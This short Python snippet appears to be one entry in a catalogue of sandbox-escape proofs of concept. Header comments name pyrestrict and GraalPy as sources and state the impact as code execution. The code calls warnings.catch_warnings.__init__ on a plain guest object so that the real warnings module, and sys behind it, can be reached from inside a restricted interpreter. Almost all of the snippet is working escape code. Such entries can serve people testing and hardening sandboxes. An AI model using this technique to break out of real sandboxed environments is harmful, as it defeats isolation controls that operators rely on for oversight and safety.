# technique: a library's __init__ is called with the guest's own object for self and stores a module on it
# source: reading pyrestrict and GraalPy's library
# goal: reach the real module warnings, and sys behind it
# impact: exec
import warnings
class F:
    pass
f = F()
warnings.catch_warnings.__init__(f)
escaped(f._module.sys)
